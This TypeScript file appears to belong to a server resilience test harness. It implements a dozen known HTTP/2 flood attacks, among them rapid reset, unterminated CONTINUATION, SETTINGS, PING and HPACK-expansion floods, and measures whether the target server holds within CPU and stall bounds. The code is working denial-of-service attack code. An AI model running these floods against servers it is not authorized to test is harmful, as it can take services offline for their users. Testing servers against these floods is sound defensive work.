/** The known floods of HTTP/2: CVE-2023-44487 (rapid reset), CVE-2024-27316 (CONTINUATION), CVE-2019-9511 to 9518. */
import { once } from "node:events";
import type { TLSSocket } from "node:tls";
import type { Attack, Sent } from "../contract.ts";
import * as h2 from "../http2-frames.ts";
import type { Target } from "../target.ts";

interface Flood {
  readonly name: string;
  /** Repetitions. */
  readonly size: number;
  /** CPU time for each repetition, in addition to the usual bound. */
  readonly cpuMsEach: number;
  /** For floods of requests, which the server begins before it reads what follows. */
  readonly stallMs?: number;
  /** Sent once, after the settings. */
  begin?(target: Target): Buffer;
  /** @param index from 0 */
  repeat(index: number, target: Target): Buffer;
}

const path = "/version";
const stream = (index: number): number => 1 + 2 * index;

const floods: readonly Flood[] = [
  {
    // The server closes the connection after a thousand.
    name: "rapid reset",
    size: 20_000,
    cpuMsEach: 0.01,
    stallMs: 100,
    repeat: (index, { authority }) =>
      Buffer.concat([
        h2.frame(h2.frameTypes.headers, h2.endStream | h2.endHeaders, stream(index), h2.getBlock(authority, path)),
        h2.frame(h2.frameTypes.resetStream, 0, stream(index), h2.uint32(8)),
      ]),
  },
  {
    name: "rapid reset by the server, which receives wrong window updates",
    size: 20_000,
    cpuMsEach: 0.05,
    repeat: (index, { authority }) =>
      Buffer.concat([
        h2.frame(h2.frameTypes.headers, h2.endHeaders, stream(index), h2.getBlock(authority, path)),
        h2.frame(h2.frameTypes.windowUpdate, 0, stream(index), h2.uint32(0)),
      ]),
  },
  {
    name: "CONTINUATION without an end",
    size: 5_000,
    cpuMsEach: 0.01,
    begin: ({ authority }) => h2.frame(h2.frameTypes.headers, h2.endStream, 1, h2.getBlock(authority, path)),
    repeat: (index) => h2.frame(h2.frameTypes.continuation, 0, 1, h2.field(`x-${index}`, "v".repeat(1_000))),
  },
  {
    name: "empty CONTINUATION frames",
    size: 50_000,
    cpuMsEach: 0.005,
    begin: ({ authority }) => h2.frame(h2.frameTypes.headers, h2.endStream, 1, h2.getBlock(authority, path)),
    repeat: () => h2.frame(h2.frameTypes.continuation, 0, 1),
  },
  {
    name: "SETTINGS",
    size: 50_000,
    cpuMsEach: 0.01,
    repeat: (index) => h2.frame(h2.frameTypes.settings, 0, 0, h2.setting(4, 65_535 + (index % 2))),
  },
  {
    name: "SETTINGS of thousands of values",
    size: 100,
    cpuMsEach: 0.5,
    repeat: () =>
      h2.frame(h2.frameTypes.settings, 0, 0, Buffer.concat(Array.from({ length: 2_000 }, () => h2.setting(4, 65_535)))),
  },
  {
    name: "PING",
    size: 50_000,
    cpuMsEach: 0.01,
    repeat: () => h2.frame(h2.frameTypes.ping, 0, 0, Buffer.alloc(8)),
  },
  {
    name: "window updates of one byte",
    size: 50_000,
    cpuMsEach: 0.005,
    repeat: () => h2.frame(h2.frameTypes.windowUpdate, 0, 0, h2.uint32(1)),
  },
  {
    name: "requests with a window of zero",
    size: 900,
    cpuMsEach: 1,
    stallMs: 200,
    begin: () => h2.frame(h2.frameTypes.settings, 0, 0, h2.setting(4, 0)),
    repeat: (index, { authority }) =>
      h2.frame(h2.frameTypes.headers, h2.endStream | h2.endHeaders, stream(index), h2.getBlock(authority, path)),
  },
  {
    name: "a header list that HPACK expands",
    // Each expands to the limit of a header list.
    size: 200,
    cpuMsEach: 3,
    stallMs: 600,
    begin: ({ authority }) =>
      h2.frame(
        h2.frameTypes.headers,
        h2.endStream | h2.endHeaders,
        1,
        Buffer.concat([h2.getBlock(authority, path), h2.indexedField("x-a", "v".repeat(3_900))]),
      ),
    repeat: (index, { authority }) =>
      h2.frame(
        h2.frameTypes.headers,
        h2.endStream | h2.endHeaders,
        stream(index + 1),
        Buffer.concat([h2.getBlock(authority, path), Buffer.alloc(8_000, 0xbe)]),
      ),
  },
  {
    name: "PRIORITY of idle streams",
    size: 50_000,
    cpuMsEach: 0.005,
    repeat: (index) => h2.frame(h2.frameTypes.priority, 0, stream(index), Buffer.alloc(5)),
  },
  {
    name: "empty DATA frames",
    size: 50_000,
    cpuMsEach: 0.01,
    begin: ({ authority }) =>
      h2.frame(h2.frameTypes.headers, h2.endHeaders, 1, h2.getBlock(authority, "/api/v1/namespaces")),
    repeat: () => h2.frame(h2.frameTypes.data, 0, 1),
  },
];

export const floodAttacks: readonly Attack[] = floods.map((flood) => ({
  group: "HTTP/2",
  name: flood.name,
  size: flood.size,
  bound: {
    cpuMs: 5 + flood.cpuMsEach * flood.size,
    cpuMsPer100KB: 5,
    ...(flood.stallMs !== undefined && { stallMs: flood.stallMs }),
  },
  run: (target, size) => runFlood(target, flood, size),
}));

/** Frames that are written before the client checks whether the server has closed the connection. */
const batch = 500;
/** After the last frame, the server has this time to answer a ping or to close the connection. */
const settleMs = 5_000;

async function runFlood(target: Target, { begin, repeat }: Flood, size: number): Promise<Sent> {
  const socket = target.connect("h2");
  let closed = false;
  const close = new Promise<void>((resolve) =>
    socket.once("close", () => {
      closed = true;
      resolve();
    }),
  );
  socket.on("error", () => socket.destroy()); // The server resets the connection of a flood.
  const answered = pongOf(socket);
  await once(socket, "secureConnect");
  let bytes = 0;
  let sent = 0;
  const write = async (piece: Buffer): Promise<void> => {
    bytes += piece.length;
    if (socket.writable && !socket.write(piece))
      await Promise.race([new Promise((resolve) => socket.once("drain", resolve)), close]);
  };
  await write(Buffer.concat([h2.preface, h2.frame(h2.frameTypes.settings, 0, 0), begin?.(target) ?? Buffer.alloc(0)]));
  while (sent < size && !closed && socket.writable) {
    const count = Math.min(batch, size - sent);
    await write(Buffer.concat(Array.from({ length: count }, (_, index) => repeat(sent + index, target))));
    sent += count;
    await new Promise(setImmediate);
  }
  if (!closed) await write(ping);
  const timer = setTimeout(() => socket.destroy(), settleMs);
  await Promise.race([answered, close]);
  const answer = closed ? `closed after ${sent}` : `read all ${sent}`;
  socket.destroy();
  await close;
  clearTimeout(timer);
  return { bytes, answer };
}

const ping = h2.frame(h2.frameTypes.ping, 0, 0, Buffer.from("attacked"));
const pong = h2.frame(h2.frameTypes.ping, 1, 0, Buffer.from("attacked"));

/** Resolves when the server has answered the last ping, and so has read all frames before it. */
function pongOf(socket: TLSSocket): Promise<void> {
  let tail = Buffer.alloc(0);
  return new Promise((resolve) => {
    socket.on("data", (piece: Buffer) => {
      tail = Buffer.concat([tail, piece]);
      if (tail.includes(pong)) resolve();
      tail = tail.subarray(-pong.length);
    });
  });
}
